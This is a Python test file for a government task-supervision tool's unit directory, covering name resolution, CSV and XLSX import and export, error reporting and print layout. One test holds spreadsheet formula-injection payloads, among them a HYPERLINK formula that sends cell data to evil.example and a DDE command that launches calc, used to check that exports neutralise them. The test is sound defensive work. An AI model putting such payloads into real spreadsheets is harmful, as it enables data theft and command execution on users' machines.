"""The unit directory file: import, export, and names as notices write them."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from duban.cli import app
from plans.directory import HEADERS, UnitEntry, read_directory, write_directory
from tests.conftest import UNITS_ZS, zhongshan_directory

runner = CliRunner()


def test_sample_directory_covers_zhongshan() -> None:
    d = zhongshan_directory()
    # 8 streets and 15 towns behind 各镇街; city departments behind 市直各部门.
    assert len(d.members("各镇街")) == 23
    assert "市政府办公室" in d.members("市直各部门")
    assert set(d.members("各功能区")) == {"火炬开发区管委会", "翠亨新区管委会"}


@pytest.mark.parametrize(
    ("written", "unit"),
    [
        ("自然资源局", "市自然资源局"),  # distributed prefix not written
        ("市政务服务数据管理局(市信息中心)", "市政务服务数据管理局"),  # alias with a note
        ("市政务服务数据管理局（市信息中心）", "市政务服务数据管理局"),  # full-width brackets
        ("中山供电局等部门", "中山供电局"),  # trailing 等部门
        ("審計局", "市审计局"),  # traditional characters
        ("市人民政府办公室", "市政府办公室"),  # alias
        ("市新聞辦", "市新闻办"),
    ],
)
def test_names_resolve_as_notices_write_them(written: str, unit: str) -> None:
    assert zhongshan_directory().resolve(written) == ("unit", unit)


def test_groups_resolve_and_unknowns_get_a_suggestion() -> None:
    d = zhongshan_directory()
    assert d.resolve("市直各部门") == ("group", "市直各部门")
    assert d.resolve("市发展改革委") is None
    assert d.suggest("市发展改革委") == "市发展改革局"


def test_csv_and_xlsx_round_trip(tmp_path: Path) -> None:
    units = read_directory(UNITS_ZS).units
    for name in ("out.csv", "out.xlsx"):
        path = tmp_path / name
        write_directory(units, path, "中山市")
        again = read_directory(path)
        assert again.problems == []
        assert again.units == units
        assert again.jurisdiction == "中山市"


def test_gbk_csv_from_excel_is_read(tmp_path: Path) -> None:
    f = tmp_path / "gbk.csv"
    f.write_bytes("单位名称,类型,所属分组\n市民政局,部门,市直各部门\n".encode("gb18030"))
    df = read_directory(f)
    assert df.problems == [] and df.units[0].name == "市民政局"


def test_bad_rows_are_named_and_nothing_is_imported(tmp_path: Path, database_url: str) -> None:
    f = tmp_path / "bad.csv"
    rows = [
        ",".join(HEADERS[:7]),
        "市民政局,,部门,,市直各部门,张三,1380000",  # mobile too short? still 7 digits: ok
        "市财政局,,部委,,市直各部门,李四,13800000000",  # unknown kind
        "市民政局,,部门,,市直各部门,王五,13800000001",
    ]  # duplicate
    f.write_text("\n".join(rows) + "\n", encoding="utf-8")
    r = runner.invoke(app, ["units", "import", str(f), "--jurisdiction", "中山市"])
    assert r.exit_code == 1
    assert "bad.csv:3: 错误: 类型: 类型“部委”无效" in r.output  # the column by its heading
    assert "bad.csv:4" in r.output and "重复" in r.output
    assert "未导入任何单位" in r.output
    export = runner.invoke(app, ["units", "export"])
    assert export.exit_code == 0 and export.output.strip() == "辖区：\n" + ",".join(HEADERS)


def test_a_secret_in_the_directory_is_refused(tmp_path: Path) -> None:
    f = tmp_path / "secret.csv"
    f.write_text(
        "单位名称,经办人,经办人渠道\n市民政局,张三,wecombot://abcdef0123456789secretkey\n",
        encoding="utf-8",
    )
    df = read_directory(f)
    assert df.units == []
    (p,) = df.problems
    assert p.line == 2 and "密钥名称" in p.message


def test_import_then_export_via_cli(tmp_path: Path, database_url: str) -> None:
    r = runner.invoke(app, ["units", "import", str(UNITS_ZS)])
    assert r.exit_code == 0, r.output
    assert "新增 58" in r.output
    again = runner.invoke(app, ["units", "import", str(UNITS_ZS)])
    assert "新增 0，更新 0，未变 58" in again.output
    out = tmp_path / "export.xlsx"
    assert runner.invoke(app, ["units", "export", "--out", str(out)]).exit_code == 0
    exported, original = read_directory(out), read_directory(UNITS_ZS)
    assert exported.problems == [] and exported.jurisdiction == "中山市"
    assert {u.name: u for u in exported.units} == {u.name: u for u in original.units}


def test_the_xlsx_export_is_ready_to_print(tmp_path: Path) -> None:
    """A title row, a bold header frozen under it, fitted widths, A4 landscape."""
    from openpyxl import load_workbook

    path = tmp_path / "名录.xlsx"
    write_directory(read_directory(UNITS_ZS).units, path, "中山市")
    ws = load_workbook(path).active
    assert str(ws["A1"].value).startswith("辖区：中山市　单位名录（58 个单位")
    assert ws["A2"].value == "单位名称" and ws["A2"].font.bold
    assert ws.freeze_panes == "A3" and ws.print_title_rows == "$1:$2"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9  # A4
    widths = {c: ws.column_dimensions[c].width for c in "ABF"}
    assert widths["A"] > 12 and widths["B"] > widths["A"]  # 别名 lists are the widest
    assert ws.auto_filter.ref.startswith("A2:")


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_exports_never_write_a_live_formula(tmp_path: Path, suffix: str) -> None:
    """A unit named like a formula is exported as text in both formats, and reads back."""
    from openpyxl import load_workbook

    evil = [
        '=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")',
        "+cmd|' /C calc'!A0",
        "@SUM(1,2)",
    ]
    units = [UnitEntry(name=n, kind="department") for n in evil]
    path = tmp_path / f"e.{suffix}"
    write_directory(units, path, "测试市")
    if suffix == "xlsx":
        ws = load_workbook(path).active
        cells = [ws.cell(r, 1) for r in range(3, 6)]
        assert [c.data_type for c in cells] == ["s", "s", "s"]
        assert [c.value for c in cells] == evil
    else:
        import csv

        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
        assert [r[0] for r in rows[2:]] == ["'" + n for n in evil]
    assert [u.name for u in read_directory(path).units] == evil


def test_units_keep_the_directory_order_with_a_group_together() -> None:
    from plans.directory import UnitEntry, directory_positions

    units = [
        UnitEntry(name="市政府办公室", groups=["市直"]),
        UnitEntry(name="乐至县", groups=["区县"]),
        UnitEntry(name="市交通运输局", groups=["市直"]),
        UnitEntry(name="临空经济区管委会"),
        UnitEntry(name="安岳县", groups=["区县"]),
    ]
    order = directory_positions(units)
    assert sorted(order, key=order.__getitem__) == [
        "市政府办公室",
        "市交通运输局",
        "乐至县",
        "安岳县",
        "临空经济区管委会",
    ]


def test_the_jurisdiction_is_read_from_the_issuing_office() -> None:
    from plans.directory import jurisdiction_of_issuer

    assert jurisdiction_of_issuer("资阳市人民政府办公室") == "资阳市"
    assert jurisdiction_of_issuer("中共资阳市委办公室") == "资阳市"
    assert jurisdiction_of_issuer("乐至县人民政府办公室") == "乐至县"
    assert jurisdiction_of_issuer("市政务服务数据管理局") is None
    assert jurisdiction_of_issuer("鄂尔多斯市政务公开领导小组办公室") == "鄂尔多斯市"
    assert jurisdiction_of_issuer("平潭综合实验区管委会办公室") == "平潭综合实验区"
    assert jurisdiction_of_issuer("徐庄镇人民政府") == "徐庄镇"
    assert jurisdiction_of_issuer("国务院办公厅") is None
